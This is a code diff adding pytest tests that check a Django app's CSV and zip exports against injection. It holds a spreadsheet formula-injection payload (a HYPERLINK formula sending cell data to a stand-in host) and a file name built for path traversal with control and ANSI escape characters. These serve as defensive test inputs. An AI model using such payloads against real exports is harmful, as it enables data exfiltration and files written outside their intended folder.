@@ -134,6 +134,43 @@ def test_a_zip_export_holds_the_csv_originals_thumbnails_and_clips(camera_root, 
 
 
 @pytest.mark.django_db
+def test_text_that_starts_like_a_formula_stays_text_in_the_csv(settings):
+    owner, cam = factories_user(), factories.camera()
+    notes = ["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "@SUM(1+1)", "+1", "-1",
+             "\tTAB", "\rCR", "plain note", "a = b"]  # fmt: skip
+    for note in notes:
+        event = factories.event(cam)
+        event.notes = note
+        event.save()
+    job = exports.run(exports.create(owner, "csv", {"camera": cam.pk}))
+    assert job.status == "done", job.error
+    table = (settings.MEDIA_ROOT / job.file).read_bytes().decode()  # its \r as written
+    kept = sorted(row["notes"] for row in read_csv(table))
+    expected = [f"'{note}" for note in notes[:6]] + notes[6:]
+    assert kept == sorted(expected)
+    assert all(not note.startswith(exports.FORMULA_STARTS) for note in kept)
+
+
+@pytest.mark.django_db
+def test_zip_entry_names_from_camera_file_names_stay_inside_the_archive(camera_root, settings):
+    owner, cam = factories_user(), factories.camera()
+    media = factories.processed_upload(cam)
+    media.path = f"{cam.folder_path}/x\\..\\..\\Windows\\Temp\\evil\nline\x1b[31m:c.jpg"
+    media.save()
+    write_jpeg(camera_root / media.path, seed=3)
+    event = factories.event(cam)
+    event.detection_ids = [media.detections.get().pk]
+    event.save()
+    job = exports.run(exports.create(owner, "zip", {"camera": cam.pk}))
+    assert job.status == "done", job.error
+    with zipfile.ZipFile(settings.MEDIA_ROOT / job.file) as archive:
+        originals = [name for name in archive.namelist() if name.startswith("originals/")]
+        rows = read_csv(archive.read("events.csv").decode())
+    assert originals == [f"originals/{cam.folder_path}/x_.._.._Windows_Temp_evil_line_[31m_c.jpg"]
+    assert originals[0] in rows[0]["files"].split(";")
+
+
+@pytest.mark.django_db
 def test_an_export_past_the_size_bound_fails_with_a_clear_error(camera_root, settings):
     settings.EXPORT_MAX_MB = 1
     cam = factories.camera()
